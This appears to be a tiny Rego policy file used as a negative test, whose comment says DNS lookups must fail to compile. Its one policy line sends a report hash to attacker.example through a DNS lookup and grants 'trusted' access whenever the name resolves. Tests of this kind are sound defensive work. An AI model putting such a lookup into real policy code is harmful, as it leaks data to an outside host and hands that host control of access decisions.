# DNS lookups (an exfiltration channel) must fail to compile.
package sbxgate

addrs := net.lookup_ip_addr(sprintf("%s.attacker.example", [input.report.sha256]))

decision := {"allow": count(addrs) > 0, "trust_level": "trusted", "tier": "standard", "reasons": []}
